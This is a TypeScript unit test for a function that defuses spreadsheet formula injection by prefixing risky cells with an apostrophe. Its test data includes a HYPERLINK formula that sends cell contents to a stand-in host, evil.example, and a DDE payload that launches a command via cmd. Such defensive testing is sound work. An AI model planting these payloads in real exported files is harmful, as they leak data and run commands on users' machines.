import { neutralizeSpreadsheetCell } from './spreadsheet-cell';

describe('neutralizeSpreadsheetCell', () => {
  it.each([
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=1+2',
    '+1+2',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(A1:A2)',
    '\t=1+2',
    '\r=1+2',
    '＝1+2',
    '＋1',
    '－1',
    '＠SUM(A1)',
  ])('makes %j text with a leading apostrophe', (cell) => {
    expect(neutralizeSpreadsheetCell(cell)).toBe(`'${cell}`);
  });

  it('marks text that looks like a negative number as text too', () => {
    expect(neutralizeSpreadsheetCell('-1')).toBe("'-1");
  });

  it.each(['', 'Relocate enterprises', '督办 =1+2', "'=1+2", ' =1+2', '2026-12-04T10:00:00.000Z'])(
    'leaves %j as it is',
    (cell) => {
      expect(neutralizeSpreadsheetCell(cell)).toBe(cell);
    },
  );
});
